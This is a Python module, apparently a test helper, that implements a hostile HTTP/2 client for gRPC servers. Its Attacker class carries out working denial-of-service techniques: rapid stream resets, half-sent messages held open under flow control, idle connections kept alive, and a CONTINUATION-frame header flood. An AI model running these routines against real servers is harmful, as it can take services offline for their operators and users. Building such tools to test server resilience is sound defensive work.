"""A peer that means no good: HTTP/2 by hand, frame by frame, without a library's manners.

It does what no gRPC client does: leaves messages half sent, takes no replies, opens calls only to
cancel them, and holds connections for nothing.
"""

import contextlib
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name, value):
    """A header field that goes into the dynamic table; `name` is an index or text."""
    assert len(value) < 127
    if isinstance(name, int):
        head = bytes([0x40 | name])
    else:
        head = b"\x40" + bytes([len(name)]) + name
    return head + bytes([len(value)]) + value


class Attacker:
    """One connection. `window`: what each stream may send back before it is stopped."""

    def __init__(self, address, window=65535):
        host, port = address.rsplit(":", 1)
        self._socket = socket.create_connection((host, int(port)))
        self._socket.settimeout(20)
        self._stream = -1
        self._headers = {}
        self._unread = b""
        self._send(PREFACE + frame(SETTINGS, 0, 0,
                                   struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))

    def _send(self, data):
        self._socket.sendall(data)

    def _header_block(self, path):
        """The first time in full, from then on a byte for each field."""
        fields = [(4, path), (1, b"localhost"), (31, b"application/grpc"), (b"te", b"trailers")]
        block = b"\x83\x86"
        for name, value in fields:
            # The dynamic table begins at 62 with the newest entry.
            known = self._headers.get((name, value))
            if known is None:
                block += _literal(name, value)
                self._headers[(name, value)] = len(self._headers)
            else:
                block += bytes([0x80 | (62 + len(self._headers) - 1 - known)])
        return block

    def open_frames(self, path, flags=END_HEADERS):
        """The frames that open a call, and its stream's number."""
        self._stream += 2
        return frame(HEADERS, flags, self._stream, self._header_block(path)), self._stream

    def call(self, path, message):
        """A whole unary call whose reply nobody will take."""
        opened, stream = self.open_frames(path)
        self._send(opened + frame(DATA, END_STREAM, stream,
                                  struct.pack(">BI", 0, len(message)) + message))

    def resets(self, path, count):
        """Opens `count` calls and cancels each at once, as fast as it goes."""
        batch = []
        for _ in range(count):
            opened, stream = self.open_frames(path)
            batch.append(opened)
            batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
        self._send(b"".join(batch))

    def frames(self):
        """What the server sends, frame by frame, until it has nothing for some seconds or the
        connection is over."""
        while True:
            while len(self._unread) >= 9:
                size = int.from_bytes(self._unread[:3], "big")
                if len(self._unread) < 9 + size:
                    break
                kind, flags, stream = struct.unpack(">BBI", self._unread[3:9])
                payload = self._unread[9:9 + size]
                self._unread = self._unread[9 + size:]
                yield kind, flags, stream, payload
            try:
                more = self._socket.recv(1 << 16)
            except OSError:
                return
            if not more:
                return
            self._unread += more

    def half_messages(self, path, count, length, seconds):
        """Opens `count` calls and sends on each as much as the server takes within so many seconds
        of a message of `length` bytes, but never its last byte. Returns the bytes that it took."""
        until = time.monotonic() + seconds
        wanted, window, total = {}, {}, 0
        for _ in range(count):
            opened, stream = self.open_frames(path)
            self._send(opened)
            wanted[stream] = length + 4  # the prefix of five, less the last byte
        connection, initial = 65535, 65535
        started = set()
        self._socket.settimeout(1)

        def pump():
            nonlocal connection, total
            for stream in list(wanted):
                while wanted[stream] > 0 and connection > 0:
                    allowed = min(wanted[stream], connection, 16384,
                                  initial + window.get(stream, 0))
                    if allowed <= 0:
                        break
                    data = b"" if stream in started else struct.pack(">BI", 0, length)
                    started.add(stream)
                    data = (data + bytes(allowed))[:allowed]
                    self._send(frame(DATA, 0, stream, data))
                    wanted[stream] -= allowed
                    window[stream] = window.get(stream, 0) - allowed
                    connection -= allowed
                    total += allowed

        with contextlib.suppress(OSError):
            pump()
            for kind, flags, stream, payload in self.frames():
                if kind == SETTINGS and not flags & ACK:
                    for at in range(0, len(payload), 6):
                        key, value = struct.unpack_from(">HI", payload, at)
                        if key == INITIAL_WINDOW_SIZE:
                            initial = value
                    self._send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self._send(frame(PING, ACK, 0, payload))
                elif kind == WINDOW_UPDATE:
                    (more,) = struct.unpack(">I", payload)
                    if stream == 0:
                        connection += more
                    else:
                        window[stream] = window.get(stream, 0) + more
                elif kind == RST_STREAM:
                    wanted.pop(stream, None)
                if time.monotonic() > until:
                    break
                pump()
        return total

    def answer_pings(self, seconds):
        """Stays alive to the server until that hangs up or says nothing for so long."""
        self._socket.settimeout(seconds)
        with contextlib.suppress(OSError):
            for kind, flags, _, payload in self.frames():
                if kind in (PING, SETTINGS) and not flags & ACK:
                    self._send(frame(kind, ACK, 0, payload if kind == PING else b""))

    def close(self):
        self._socket.close()


def send_headers_without_end(connection, most):
    """Begins a call over a connected socket, and goes on with its headers until the other side ends
    the connection, or so many bytes are sent. How many were."""
    block = b"\x00\x03x-a" + b"\x7f\xe1\x7c" + b"v" * 16096  # a literal of 16096 bytes
    frames = frame(9, 0, 1, block) * 16
    sent = 0
    with contextlib.suppress(OSError):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\x83\x86"))
        while sent < most:
            connection.sendall(frames)
            sent += len(frames)
    connection.close()
    return sent
